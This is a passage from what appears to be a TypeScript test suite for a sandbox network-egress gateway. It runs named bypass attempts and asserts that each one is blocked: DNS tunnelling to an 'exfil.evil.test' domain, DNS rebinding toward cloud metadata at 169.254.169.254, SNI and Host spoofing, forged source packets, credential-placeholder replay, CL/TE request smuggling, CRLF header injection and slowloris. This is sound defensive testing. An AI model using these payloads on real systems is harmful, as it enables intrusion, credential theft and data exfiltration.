+      atk('POS', 'pos-http', 'HTTP good.allowed.test', 'http', {
+        ip: 'good.allowed.test',
+        port: 80,
+        resolve: true,
+        req: get('/pos', 'good.allowed.test'),
+      }),
+      atk(
+        'POS',
+        'pos-cred',
+        'HTTPS api.cred.test with the placeholder',
+        'tls',
+        tls('api.cred.test', 'api.cred.test', {
+          resolve: true,
+          verify: true,
+          req: get('/ok-a', 'api.cred.test', [`Authorization: Bearer ${phA}`]),
+        }),
+      ),
+    ]);
+    const env = await batch(
+      'A (root)',
+      A,
+      [
+        atk('POS', 'pos-env', 'search env, /proc and files for the real value', 'env', {
+          needle_b64: Buffer.from(REAL).toString('base64'),
+        }),
+      ],
+      { user: 'root' },
+    );
+    out.set('pos-env', env.get('pos-env')!);
+    for (const r of rows.splice(-4)) expect(r.verdict, JSON.stringify(r)).toBe('blocked'); // no far-side alarms
+    expect(body(out.get('pos-https')!)).toContain('good https host=good.allowed.test sni=good.allowed.test');
+    expect(body(out.get('pos-http')!)).toContain('good http host=good.allowed.test');
+    expect(body(out.get('pos-cred')!)).toMatch(/^HTTP\/1\.1 200[\s\S]*cred ok \/ok-a/);
+    expect(
+      hits
+        .slice(mark)
+        .filter((h) => h.role === 'cred' && h.kind === 'https')
+        .map((h) => h.auths),
+    ).toEqual([[`Bearer ${REAL}`]]);
+    expect(out.get('pos-env')).toMatchObject({ found: [] });
+    expect(JSON.stringify(out.get('pos-env'))).toContain(phA); // the sandbox holds the placeholder only
+    expect(allOutput).not.toContain(REAL);
+  });
+
+  it('E1–E3 + IP literal from the credential sandbox (E4 variant "credential")', async () => {
+    await forgeHosts(A);
+    await batch('A (credential)', A, coreAttacks(true));
+  });
+
+  it('E4: env, metadata, resources and no options at all change nothing', async () => {
+    const variants: [string, Record<string, unknown>][] = [
+      ['E4 env', { env: { HTTPS_PROXY: `http://${W.evil}:8080`, NO_PROXY: '*', FOO: 'bar' } }],
+      ['E4 metadata', { metadata: { team: 'red', egress: 'allow-all' } }],
+      ['E4 resources', { vcpus: 2, memoryMiB: 768 }],
+      ['E4 plain', {}],
+    ];
+    const ids = await Promise.all(variants.map(([, o]) => sandbox({ egress: POLICY, ...o })));
+    try {
+      for (const [i, [label]] of variants.entries()) {
+        await forgeHosts(ids[i]!);
+        await batch(label, ids[i]!, coreAttacks(false));
+      }
+    } finally {
+      await Promise.all(ids.map((id) => s.call('DELETE', `/v1/sandboxes/${id}`)));
+    }
+  });
+
+  it('T02/T03 DNS: other resolvers are answered by the gateway only, DoT refused, tunnelling never forwarded', async () => {
+    const out = await batch('A', A, [
+      atk(
+        'T02',
+        'dns-alt-udp',
+        'UDP 53 to evil (an open resolver) for evil.test',
+        'dns',
+        { ip: W.evil, name: 'evil.test' },
+        gatewayRefused,
+      ),
+      atk(
+        'T02',
+        'dns-alt-tcp',
+        'TCP 53 to evil for evil.test',
+        'dns',
+        { ip: W.evil, name: 'evil.test', tcp: true },
+        gatewayRefused,
+      ),
+      atk(
+        'T02',
+        'dns-alt-internal',
+        'UDP 53 to the internal address',
+        'dns',
+        { ip: W.internal, name: 'x.evil.test' },
+        gatewayRefused,
+      ),
+      atk(
+        'T02',
+        'dns-alt-meta',
+        'UDP 53 to 169.254.169.254',
+        'dns',
+        { ip: W.meta, name: 'x.evil.test' },
+        gatewayRefused,
+      ),
+      atk(
+        'T02',
+        'dns-odd-port',
+        'a DNS query to evil on UDP 9999',
+        'udp',
+        { ip: W.evil, port: 9999, hex: '123401000001000000000000046576696c0474657374000001' + '0001' },
+        noReply,
+      ),
+      atk(
+        'T02',
+        'dns-dot',
+        'DoT (TLS on 853) to evil',
+        'tls',
+        { ip: W.evil, port: 853, sni: 'evil.test', timeout: 2 },
+        refused,
+      ),
+      atk(
+        'T02',
+        'dns-allowed-via-alt',
+        'allowed name via evil:53 answered by the gateway',
+        'dns',
+        { ip: W.evil, name: 'pkg.allowed.test' },
+        (o) =>
+          o.stage === 'reply' && o.rcode === 'NOERROR' && o.answers === 1
+            ? null
+            : `invalid: expected the gateway's answer, got ${JSON.stringify(o)}`,
+      ),
+      atk(
+        'T03',
+        'dns-tunnel-a-txt',
+        '80 random 60-char labels under exfil.evil.test (A and TXT)',
+        'dnsburst',
+        { ip: W.host, count: 80, domain: 'exfil.evil.test' },
+        (o) => {
+          const r = o.rcodes as Record<string, number>;
+          return (r.REFUSED ?? 0) + (r.timeout ?? 0) === 80 ? null : `answers ${JSON.stringify(r)}`;
+        },
+      ),
+      atk(
+        'T03',
+        'dns-tunnel-allowed-suffix',
+        'random labels below an allowed name',
+        'dnsburst',
+        { ip: W.host, count: 20, domain: 'pkg.allowed.test' },
+        (o) => ((o.rcodes as Record<string, number>).NOERROR ? `answered ${JSON.stringify(o.rcodes)}` : null),
+      ),
+      atk(
+        'T03',
+        'dns-tunnel-tcp',
+        'a long name over TCP 53',
+        'dns',
+        {
+          ip: W.host,
+          tcp: true,
+          qtype: 'TXT',
+          name: `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(50)}.exfil.evil.test`,
+        },
+        gatewayRefused,
+      ),
+      atk(
+        'T03',
+        'dns-tunnel-overlong',
+        'a 300-byte name',
+        'dns',
+        { ip: W.host, name: `${'q'.repeat(60)}.`.repeat(5) + 'evil.test' },
+        gatewayRefused,
+      ),
+    ]);
+    expect(out.get('dns-alt-udp')).toMatchObject({ rcode: 'REFUSED' });
+    // the authoritative server only ever heard allowed names (also asserted per attempt by forbidden())
+    expect(hits.filter((h) => h.role === 'dns' && !UPSTREAM_OK.has(String(h.name)))).toEqual([]);
+  });
+
+  it('T04/T05/T06/T09/T10/T11: rebinding, IP literals, SNI spoofing, shared IPs, keep-alive, canonicalisation', async () => {
+    const absent = (o: Out) => (o.stage === 'resolved' ? `resolved ${JSON.stringify(o.addrs)}` : null);
+    await batch('A', A, [
+      atk(
+        'T04',
+        'rebind-dns',
+        'rebind.allowed.test → internal: DNS',
+        'resolve',
+        { name: 'rebind.allowed.test', family: 2 },
+        absent,
+      ),
+      atk(
+        'T04',
+        'rebind-tls',
+        'rebind.allowed.test → internal: TLS',
+        'tls',
+        tls(W.good, 'rebind.allowed.test', { path: '/rebind' }),
+        refused,
+      ),
+      atk(
+        'T04',
+        'rebind-http',
+        'rebind.allowed.test → internal: HTTP',
+        'http',
+        { ip: W.good, port: 80, req: get('/rebind', 'rebind.allowed.test') },
+        status(403),
+      ),
+      atk(
+        'T04',
+        'rebind-meta-tls',
+        'meta.allowed.test → 169.254.169.254: TLS',
+        'tls',
+        tls(W.good, 'meta.allowed.test'),
+        refused,
+      ),
+      atk(
+        'T04',
+        'rebind-meta-http',
+        'meta.allowed.test → 169.254.169.254: HTTP',
+        'http',
+        { ip: W.good, port: 80, req: get('/latest/meta-data/', 'meta.allowed.test') },
+        status(403),
+      ),
+      atk(
+        'T04',
+        'rebind-loop-http',
+        'loop.allowed.test → 127.0.0.1: HTTP',
+        'http',
+        { ip: W.good, port: 80, req: get('/', 'loop.allowed.test') },
+        status(403),
+      ),
+      atk(
+        'T05',
+        'ip-https-good',
+        'HTTPS to the allowed IP without SNI',
+        'tls',
+        tls(W.good, null, { host: 'pkg.allowed.test' }),
+        refused,
+      ),
+      atk(
+        'T05',
+        'ip-http-good',
+        'HTTP to the allowed IP, Host = the IP',
+        'http',
+        { ip: W.good, port: 80, req: get('/', W.good) },
+        status(403),
+      ),
+      atk('T05', 'ip-tcp-evil-22', 'raw TCP to evil :22', 'tcp', { ip: W.evil, port: 22 }, noConnect),
+      atk(
+        'T05',
+        'ip-tcp-internal',
+        'raw TCP to the internal server :8080',
+        'tcp',
+        { ip: W.internal, port: 8080 },
+        noConnect,
+      ),
+      atk(
+        'T06',
+        'sni-spoof-evil',
+        'TLS to the evil IP with SNI pkg.allowed.test',
+        'tls',
+        tls(W.evil, 'pkg.allowed.test', { path: '/t06' }),
+        noForbiddenBody,
+      ),
+      atk(
+        'T06',
+        'sni-spoof-internal',
+        'TLS to the internal IP with SNI pkg.allowed.test',
+        'tls',
+        tls(W.internal, 'pkg.allowed.test', { path: '/t06' }),
+        noForbiddenBody,
+      ),
+      atk(
+        'T06',
+        'host-spoof-evil',
+        'HTTP to the evil IP with Host pkg.allowed.test',
+        'http',
+        { ip: W.evil, port: 80, req: get('/t06', 'pkg.allowed.test') },
+        noForbiddenBody,
+      ),
+      atk(
+        'T09',
+        'shared-8080',
+        'the allowed address on TCP 8080',
+        'tcp',
+        { ip: W.good, port: 8080 },
+        noConnect,
+      ),
+      atk('T09', 'shared-22', 'the allowed address on TCP 22', 'tcp', { ip: W.good, port: 22 }, noConnect),
+      atk(
+        'T09',
+        'shared-8443',
+        'the allowed address on TLS 8443 (no CIDR rule in A)',
+        'tls',
+        { ip: W.good, port: 8443, sni: 'pkg.allowed.test' },
+        refused,
+      ),
+      atk(
+        'T10',
+        'keepalive-switch',
+        'keep-alive: Host allowed, then Host evil.test',
+        'http',
+        {
+          ip: W.good,
+          port: 80,
+          req: 'GET /1 HTTP/1.1\r\nHost: pkg.allowed.test\r\n\r\n',
+          req2: 'GET /2 HTTP/1.1\r\nHost: evil.test\r\n\r\n',
+        },
+        (o) =>
+          body(o).includes('good http') && /403/.test(body(o).split('||')[1] ?? '')
+            ? null
+            : (noForbiddenBody(o, []) ??
+              (body(o).includes('good http')
+                ? null
+                : `invalid: first request not served: ${body(o).slice(0, 80)}`)),
+      ),
+      atk(
+        'T10',
+        'keepalive-pipelined',
+        'two pipelined requests, the second to evil.shared.test',
+        'http',
+        {
+          ip: W.good,
+          port: 80,
+          req: 'GET /1 HTTP/1.1\r\nHost: pkg.allowed.test\r\n\r\nGET /2 HTTP/1.1\r\nHost: evil.shared.test\r\nConnection: close\r\n\r\n',
+        },
+        noForbiddenBody,
+      ),
+      atk(
+        'T10',
+        'keepalive-intercepted',
+        'intercepted keep-alive: Host api.cred.test, then evil.test',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: `GET /ok-ka HTTP/1.1\r\nHost: api.cred.test\r\nAuthorization: Bearer ${phA}\r\n\r\nGET /refuse-ka HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer ${phA}\r\nConnection: close\r\n\r\n`,
+        }),
+        noReal,
+      ),
+      ...[
+        'pkg.allowed.test.evil.test',
+        'xpkg.allowed.test',
+        'pkg.allowed.test@evil.test',
+        'evil.test#pkg.allowed.test',
+        '[pkg.allowed.test]',
+        'evil.test:80',
+        'pkg.allowed.test:8080',
+        'pkg.allowed.test\u0000.evil.test',
+        'evil.test\tpkg.allowed.test',
+        'pkg.allowed.t\u0435st',
+        'evil.test%2epkg.allowed.test',
+        'EVIL.SHARED.TEST.',
+      ].map((h, i) =>
+        atk(
+          'T11',
+          `canon-host-${i}`,
+          `Host ${JSON.stringify(h)}`,
+          'http',
+          { ip: W.good, port: 80, req: get('/t11', h) },
+          noForbiddenBody,
+        ),
+      ),
+      ...[
+        'pkg.allowed.test.evil.test',
+        'xpkg.allowed.test',
+        'EVIL.SHARED.TEST.',
+        `${'a'.repeat(60)}.`.repeat(3) + 'pkg.allowed.test',
+      ].map((n, i) =>
+        atk(
+          'T11',
+          `canon-sni-${i}`,
+          `SNI ${n.slice(0, 40)}`,
+          'tls',
+          tls(W.good, n, { host: n, path: '/t11' }),
+          noForbiddenBody,
+        ),
+      ),
+    ]);
+  });
+
+  it('E5/T13–T19: IPv6, UDP/QUIC, ICMP, forged sources, metadata, host services, other sandboxes', async () => {
+    const { v4, v6 } = hostAddresses();
+    const apiPort = Number(new URL(s.apiUrl).port);
+    const agentPort = Number(new URL(s.agent.url).port);
+    const redisPort = Number(new URL(s.redisUrl).port);
+    const gwTls = s.gateway!.tlsPort;
+    const quic = `c3000000010854${randomBytes(8).toString('hex')}00004400${randomBytes(60).toString('hex')}`;
+    const ntp = `1b${'00'.repeat(47)}`;
+    // B listens on TCP/UDP 7000 for 25 s (T19 far side); A does the same for B's CIDR-rule attempt
+    const listen = (id: string) =>
+      s.call<{ command: { id: string }; stream: { url: string; token: string } }>(
+        'POST',
+        `/v1/sandboxes/${id}/commands`,
+        {
+          cmd: 'python3',
+          args: [
+            '/tmp/atk.py',
+            JSON.stringify([{ id: 'listen', kind: 'listen', port: 7000, secs: 25, log: '/tmp/t19.log' }]),
+          ],
+          timeoutMs: 40_000,
+        },
+      );
+    const [lb, la] = await Promise.all([listen(B), listen(A)]);
+    await sleep(1500);
+    const hostPorts = [apiPort, agentPort, redisPort, canaryPort, 22];
+    const attempts: Attempt[] = [
+      atk(
+        'T13',
+        'v6-host',
+        `TCP to the host's IPv6 ${v6[0] ?? 'fd00::2'}`,
+        'tcp',
+        { ip: v6[0] ?? 'fd00::2', port: canaryPort },
+        noConnect,
+      ),
+      atk(
+        'T13',
+        'v6-loop-host',
+        "TCP to [::1] (the sandbox's own loopback) on the API port",
+        'tcp',
+        { ip: '::1', port: apiPort },
+        noConnect,
+      ),
+      atk(
+        'T13',
+        'v6-mapped',
+        'IPv4-mapped ::ffff:evil :8080',
+        'tcp',
+        { ip: `::ffff:${W.evil}`, port: 8080 },
+        noConnect,
+      ),
+      atk(
+        'T13',
+        'v6-nat64',
+        'NAT64 64:ff9b::evil :8080',
+        'tcp',
+        { ip: `64:ff9b::${W.evil}`, port: 8080 },
+        noConnect,
+      ),
+      atk(
+        'T13',
+        'v6-udp',
+        `UDP to the host's IPv6`,
+        'udp',
+        { ip: v6[0] ?? 'fd00::2', port: canaryPort },
+        noReply,
+      ),
+      atk(
+        'T13',
+        'v6-aaaa',
+        'AAAA of an allowed name (must be empty)',
+        'resolve',
+        { name: 'pkg.allowed.test', family: 10 },
+        (o) => (o.stage === 'resolved' ? `got IPv6 ${JSON.stringify(o.addrs)}` : null),
+      ),
+      atk(
+        'T14',
+        'udp-quic-evil',
+        'QUIC-like Initial to evil UDP 443',
+        'udp',
+        { ip: W.evil, port: 443, hex: quic },
+        noReply,
+      ),
+      atk(
+        'T14',
+        'udp-quic-good',
+        'QUIC-like Initial to the allowed server UDP 443',
+        'udp',
+        { ip: W.good, port: 443, hex: quic },
+        noReply,
+      ),
+      atk('T14', 'udp-ntp', 'NTP to evil UDP 123', 'udp', { ip: W.evil, port: 123, hex: ntp }, noReply),
+      atk('T14', 'udp-9999', 'UDP to evil 9999', 'udp', { ip: W.evil, port: 9999 }, noReply),
+      atk(
+        'T14',
+        'udp-internal',
+        'UDP to the internal server',
+        'udp',
+        { ip: W.internal, port: 9999 },
+        noReply,
+      ),
+      atk('T15', 'icmp-evil', 'ICMP echo (1 KB pattern) to evil', 'icmp', { ip: W.evil }),
+      atk('T15', 'icmp-internal', 'ICMP echo to the internal server', 'icmp', { ip: W.internal }),
+      atk('T15', 'icmp-host', 'ICMP echo to the host end', 'icmp', { ip: W.host }, (o) =>
+        JSON.stringify(o.r).includes('reply') ? `host answered: ${JSON.stringify(o.r)}` : null,
+      ),
+      atk(
+        'T18',
+        'meta-http',
+        '169.254.169.254:80 (redirected: Host is an IP)',
+        'http',
+        { ip: W.meta, port: 80, req: get('/latest/meta-data/', W.meta) },
+        status(403),
+      ),
+      atk(
+        'T18',
+        'meta-http-named',
+        '169.254.169.254:80 with Host pkg.allowed.test',
+        'http',
+        { ip: W.meta, port: 80, req: get('/latest/meta-data/', 'pkg.allowed.test') },
+        noForbiddenBody,
+      ),
+      atk(
+        'T18',
+        'meta-tls',
+        '169.254.169.254:443 without SNI',
+        'tls',
+        tls(W.meta, null, { host: W.meta }),
+        refused,
+      ),
+      atk('T18', 'meta-8080', '169.254.169.254:8080', 'tcp', { ip: W.meta, port: 8080 }, noConnect),
+      atk('T18', 'meta-udp', '169.254.169.254 UDP', 'udp', { ip: W.meta, port: 9999 }, noReply),
+      ...hostPorts.flatMap((port) => [
+        atk(
+          'T18',
+          `host-end-${port}`,
+          `host end ${addrA.replace(/\d+$/, 'x')}:${port}`,
+          'tcp',
+          { ip: addrA.replace(/\d+$/, (d) => String(Number(d) - 1)), port },
+          noConnect,
+        ),
+        ...v4.map((ip) =>
+          atk('T18', `host-${ip}-${port}`, `host address ${ip}:${port}`, 'tcp', { ip, port }, noConnect),
+        ),
+        atk(
+          'T18',
+          `host-world-end-${port}`,
+          `the host's world-side address ${W.host}:${port}`,
+          'tcp',
+          { ip: W.host, port },
+          noConnect,
+        ),
+      ]),
+      atk(
+        'T18',
+        'host-loopback-api',
+        "127.0.0.1 API port (the sandbox's own loopback)",
+        'tcp',
+        { ip: '127.0.0.1', port: apiPort },
+        noConnect,
+      ),
+      atk(
+        'T18',
+        'host-loopback-redis',
+        '127.0.0.1 Redis port',
+        'tcp',
+        { ip: '127.0.0.1', port: redisPort },
+        noConnect,
+      ),
+      atk(
+        'T18',
+        'host-udp',
+        'UDP to the host end',
+        'udp',
+        { ip: addrA.replace(/\d+$/, (d) => String(Number(d) - 1)), port: canaryPort },
+        noReply,
+      ),
+      atk(
+        'T18',
+        'gateway-port-direct',
+        'the gateway TLS port directly with SNI evil.test',
+        'tls',
+        { ip: addrA.replace(/\d+$/, (d) => String(Number(d) - 1)), port: gwTls, sni: 'evil.test' },
+        refused,
+      ),
+      atk('T19', 'peer-tcp', 'TCP to sandbox B :7000', 'tcp', { ip: addrB, port: 7000 }, noConnect),
+      atk('T19', 'peer-udp', 'UDP to sandbox B :7000', 'udp', { ip: addrB, port: 7000 }, noReply),
+      atk(
+        'T19',
+        'peer-host-end',
+        "TCP to B's host end :7000",
+        'tcp',
+        { ip: addrB.replace(/\d+$/, (d) => String(Number(d) - 1)), port: 7000 },
+        noConnect,
+      ),
+      atk('T19', 'peer-icmp', 'ICMP to sandbox B', 'icmp', { ip: addrB }, (o) =>
+        JSON.stringify(o.r).includes('reply') ? 'B answered' : null,
+      ),
+    ];
+    await batch('A', A, attempts, { timeoutMs: 90_000, parallel: true });
+    const auditMark = audit.length;
+    // forged sources need root in the sandbox; each is judged by the world's `spoofed`/`evil` counters
+    await batch(
+      'A (root)',
+      A,
+      [
+        atk('T16', 'spoof-peer', "raw UDP with B's source address to evil", 'spoof', {
+          src: addrB,
+          ip: W.evil,
+          port: 9999,
+        }),
+        atk('T16', 'spoof-good', "raw UDP with the allowed server's address as source", 'spoof', {
+          src: W.good,
+          ip: W.evil,
+          port: 9999,
+        }),
+        atk(
+          'T16',
+          'spoof-host',
+          "raw UDP with the host end's address as source to the gateway DNS",
+          'spoof',
+          { src: addrA.replace(/\d+$/, (d) => String(Number(d) - 1)), ip: W.host, port: 53, payload: 'x' },
+        ),
+        atk('T16', 'spoof-zero', 'raw UDP from 0.0.0.0', 'spoof', { src: '0.0.0.0', ip: W.evil, port: 9999 }),
+        atk('T15', 'icmp-evil-root', 'ICMP echo to evil as root (raw socket)', 'icmp', { ip: W.evil }),
+      ],
+      { user: 'root' },
+    );
+    // a forged source that got past the packet layer would reach the gateway as an unknown sandbox
+    const unknown = audit.slice(auditMark).filter((l) => l.reason === 'unregistered-source');
+    if (unknown.length)
+      rows.push({
+        t: 'T16',
+        id: 'spoof-gateway-saw',
+        sandbox: 'A (root)',
+        verdict: 'escaped',
+        note: `gateway saw ${JSON.stringify(unknown[0])}`,
+      });
+    // B (CIDR rule covering the whole sandbox pool on port 7000) tries sandbox A
+    await batch('B (cidr: pool:7000)', B, [
+      atk(
+        'T19',
+        'peer-via-cidr',
+        'TCP to sandbox A :7000 through a CIDR rule covering the pool',
+        'tcp',
+        { ip: addrA, port: 7000 },
+        noConnect,
+      ),
+    ]);
+    const [rb, ra] = await Promise.all(
+      [lb, la].map((l) => readEvents(l.body.stream.url, l.body.stream.token).then(collect)),
+    );
+    for (const [label, r, id] of [
+      ['B', rb, B],
+      ['A', ra, A],
+    ] as const) {
+      expect(r!.stdout.toString(), label).toContain('LISTENING');
+      const log = await s.exec(id, { cmd: 'sh', args: ['-c', 'cat /tmp/t19.log 2>/dev/null; echo END'] });
+      const peerHits = log.stdout.toString().replace('END', '').trim();
+      if (peerHits)
+        rows.push({
+          t: 'T19',
+          id: `peer-listener-${label}`,
+          sandbox: label,
+          verdict: 'escaped',
+          note: `sandbox ${label} received: ${peerHits}`,
+        });
+    }
+  });
+
+  it('T20/T22: placeholder replay, wrong host, plain HTTP, reflection; duplicate Authorization and smuggling', async () => {
+    const auth = (ph: string) => `Authorization: Bearer ${ph}`;
+    const mark = hits.length;
+    await batch('B', B, [
+      atk(
+        'T20',
+        'replay-from-b',
+        "B sends A's placeholder to the credential host",
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/refuse-replay', 'api.cred.test', [auth(phA)]),
+        }),
+        status(403),
+      ),
+      atk(
+        'T20',
+        'replay-mixed',
+        "B sends its own and A's placeholder",
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/refuse-mixed', 'api.cred.test', [auth(phB), `X-Other: ${phA}`]),
+        }),
+        status(403),
+      ),
+    ]);
+    const out = await batch('A', A, [
+      atk(
+        'T20',
+        'ph-wrong-host',
+        'placeholder to an allowed non-credential host (spliced)',
+        'tls',
+        tls(W.good, 'pkg.allowed.test', { req: get('/t20-wronghost', 'pkg.allowed.test', [auth(phA)]) }),
+        noReal,
+      ),
+      atk(
+        'T20',
+        'ph-plain-http',
+        'placeholder to the credential host over plain HTTP',
+        'http',
+        { ip: W.cred, port: 80, req: get('/noinj-http', 'api.cred.test', [auth(phA)]) },
+        noReal,
+      ),
+      atk(
+        'T20',
+        'ph-ip-literal',
+        'placeholder to the credential IP without SNI',
+        'tls',
+        tls(W.cred, null, { req: get('/noinj-ip', 'api.cred.test', [auth(phA)]) }),
+        refused,
+      ),
+      atk(
+        'T20',
+        'ph-sni-spoof',
+        'placeholder with SNI pkg.allowed.test, Host api.cred.test',
+        'tls',
+        tls(W.cred, 'pkg.allowed.test', { req: get('/noinj-sni', 'api.cred.test', [auth(phA)]) }),
+        noReal,
+      ),
+      atk(
+        'T20',
+        'ph-in-query',
+        'placeholder in the URL',
+        'tls',
+        tls(W.cred, 'api.cred.test', { verify: true, req: get(`/refuse-q?key=${phA}`, 'api.cred.test') }),
+        status(403),
+      ),
+      atk(
+        'T20',
+        'ph-other-header',
+        'placeholder in another header',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/refuse-h', 'api.cred.test', [`X-Api-Key: ${phA}`]),
+        }),
+        status(403),
+      ),
+      atk(
+        'T20',
+        'reflect-echo',
+        'an endpoint that echoes the injected header back',
+        'tls',
+        tls(W.cred, 'api.cred.test', { verify: true, req: get('/echo', 'api.cred.test', [auth(phA)]) }),
+        (o) =>
+          noReal(o, []) ??
+          (body(o).includes('cred echo') ? null : `invalid: echo not served: ${body(o).slice(0, 80)}`),
+      ),
+      atk(
+        'T22',
+        'dup-auth',
+        'pre-set duplicate Authorization (attacker value second)',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/t22-dup', 'api.cred.test', [auth(phA), 'Authorization: Bearer attacker-token']),
+        }),
+        noReal,
+      ),
+      atk(
+        'T22',
+        'dup-auth-first',
+        'pre-set duplicate Authorization (attacker value first)',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/t22-dup2', 'api.cred.test', ['Authorization: Bearer attacker-token', auth(phA)]),
+        }),
+        noReal,
+      ),
+      atk(
+        'T22',
+        'conn-auth',
+        '`Connection: authorization` with the placeholder',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/t22-conn', 'api.cred.test', [auth(phA), 'Connection: authorization']),
+        }),
+        noReal,
+      ),
+      atk(
+        'T22',
+        'smuggle-cl-te',
+        'CL+TE with a smuggled request to evil.test after injection',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: `POST /t22-smuggle HTTP/1.1\r\nHost: api.cred.test\r\n${auth(phA)}\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /refuse-smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
+        }),
+        noReal,
+      ),
+      atk(
+        'T22',
+        'smuggle-dup-cl',
+        'duplicate Content-Length',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: `POST /refuse-dupcl HTTP/1.1\r\nHost: api.cred.test\r\nContent-Length: 5\r\nContent-Length: 40\r\n\r\nhello`,
+        }),
+        status(400),
+      ),
+      atk(
+        'T22',
+        'dot-segment',
+        'GET /public/../refuse-admin',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: get('/public/../refuse-admin', 'api.cred.test', [auth(phA)]),
+        }),
+        status(400),
+      ),
+      atk(
+        'T22',
+        'crlf-value',
+        'CRLF-injected header value',
+        'tls',
+        tls(W.cred, 'api.cred.test', {
+          verify: true,
+          req: `GET /refuse-crlf HTTP/1.1\r\nHost: api.cred.test\r\nX-A: a\rHost: evil.test\r\n\r\n`,
+        }),
+        noReal,
+      ),
+    ]);
+    expect(body(out.get('reflect-echo')!)).toContain('cred echo');
+    const cred = hits
+      .slice(mark)
+      .filter((h) => h.role === 'cred' && (h.kind === 'https' || h.kind === 'http'));
+    // what the credential upstream saw: the real value only on /echo and the T22 requests, never twice
+    for (const h of cred) expect(h.auths?.length ?? 0, JSON.stringify(h)).toBeLessThanOrEqual(1);
+    expect(cred.filter((h) => h.url?.startsWith('/noinj') && h.auths?.some((a) => a.includes(REAL)))).toEqual(
+      [],
+    );
+    expect(allOutput).not.toContain(REAL);
+  });
+
+  it('T24: slowloris and oversized heads from A while B is still served', async () => {
+    const hello = await captureHello('pkg.allowed.test');
+    const [outA, outB] = await Promise.all([
+      batch('A', A, [
+        atk(
+          'T24',
+          'slowloris',
+          `${MAX_CONNS + 4} connections trickling a ClientHello 1 byte / 300 ms`,
+          'slowloris',
+          { ip: W.good, n: MAX_CONNS + 4, every: 0.3, secs: 8, hello: hello.toString('hex') },
+          (o) =>
+            o.closed === o.opened && Number(o.last_close) < HANDSHAKE_MS / 1000 + 2.5
+              ? null
+              : `gateway kept trickling connections open: ${JSON.stringify(o)}`,
+        ),
+        atk(
+          'T24',
+          'huge-head',
+          'a 1 MB request head',
+          'http',
+          {
+            ip: W.good,
+            port: 80,
+            req: `GET /t24-huge HTTP/1.1\r\nHost: pkg.allowed.test\r\nX-Pad: ${'a'.repeat(1 << 20)}\r\n\r\n`,
+          },
+          (o) => (body(o).includes('good http') ? 'served' : null),
+        ),
+      ]),
+      (async () => {
+        await sleep(2500); // B asks while A's trickle is under way
+        return batch('B (served during A’s slowloris)', B, [
+          atk(
+            'T24',
+            'served-during',
+            'B: 5 HTTPS requests to good.allowed.test',
+            'latency',
+            { ip: W.good, port: 443, name: 'good.allowed.test', n: 5 },
+            (o) => (o.ok === 5 && Number(o.median_ms) < 1500 ? null : `B starved: ${JSON.stringify(o)}`),
+          ),
+        ]);
+      })(),
+    ]);
+    expect(outA.get('slowloris')).toMatchObject({ stage: 'done' });
+    expect(outB.get('served-during')).toMatchObject({ ok: 5 });
+    expect(hits.some((h) => h.url === '/t24-huge')).toBe(false);
+    expect(audit.some((l) => l.reason === 'handshake-timeout')).toBe(true);
+  });
+
+  it('T25: tightening the policy with PATCH closes open connections', async () => {
+    const mark = hits.length;
+    const cmd = await s.call<{ command: { id: string }; stream: { url: string; token: string } }>(
+      'POST',
+      `/v1/sandboxes/${A}/commands`,
+      {
+        cmd: 'python3',
+        args: [
+          '/tmp/atk.py',
+          JSON.stringify([{ id: 't25', kind: 't25', ip: W.good, name: 'pkg.allowed.test', wait: 12 }]),
+        ],
+        timeoutMs: 40_000,
+      },
+    );
+    expect(cmd.status).toBe(201);
+    const stream = readEvents(cmd.body.stream.url, cmd.body.stream.token).then(collect);
+    for (let i = 0; i < 100 && hits.slice(mark).filter((h) => h.url === '/t25-open').length < 2; i++)
+      await sleep(100);
+    expect(hits.slice(mark).filter((h) => h.url === '/t25-open')).toHaveLength(2);
+    const patch = await s.call('PATCH', `/v1/sandboxes/${A}/egress`, {
+      allow: ALLOWED.filter((n) => n !== 'pkg.allowed.test'),
+    });
+    expect(patch.status).toBe(200);
+    const r = await stream;
+    allOutput += r.stdout.toString();
+    const line = r.stdout
+      .toString()
+      .split('\n')
+      .find((l) => l.startsWith('{"id": "t25"'));
+    const res = line ? (JSON.parse(line) as { out: { r: Record<string, string> } }).out.r : null;
+    const after = hits.slice(mark).filter((h) => h.url === '/t25-after');
+    const verdict = !res
+      ? 'not-run'
+      : after.length > 0 || !/closed/.test(res.tls ?? '') || !/closed/.test(res.http ?? '')
+        ? 'escaped'
+        : 'blocked';
+    rows.push({
+      t: 'T25',
+      id: 'policy-tighten',
+      sandbox: 'A',
+      verdict,
+      note: `${JSON.stringify(res)}; far side after PATCH: ${after.length} requests`,
+    });
+    await s.call('PATCH', `/v1/sandboxes/${A}/egress`, POLICY);
+  });
+
+  it('latency: HTTPS through the gateway vs direct (CIDR rule), median of 30, same run', async () => {
+    direct8443 = true;
+    try {
+      const r = await s.exec(B, {
+        cmd: 'python3',
+        args: [
+          '/tmp/atk.py',
+          JSON.stringify([
+            { id: 'warm', kind: 'latency', ip: W.good, port: 443, name: 'good.allowed.test', n: 3 },
+            { id: 'gateway', kind: 'latency', ip: W.good, port: 443, name: 'good.allowed.test', n: 30 },
+            { id: 'direct', kind: 'latency', ip: W.good, port: 8443, name: 'good.allowed.test', n: 30 },
+          ]),
+        ],
+        timeoutMs: 90_000,
+      });
+      const res = Object.fromEntries(
+        r.stdout
+          .toString()
+          .split('\n')
+          .filter((l) => l.startsWith('{'))
+          .map((l) => JSON.parse(l) as { id: string; out: { median_ms: number; ok: number } })
+          .map((j) => [j.id, j.out]),
+      );
+      console.log(
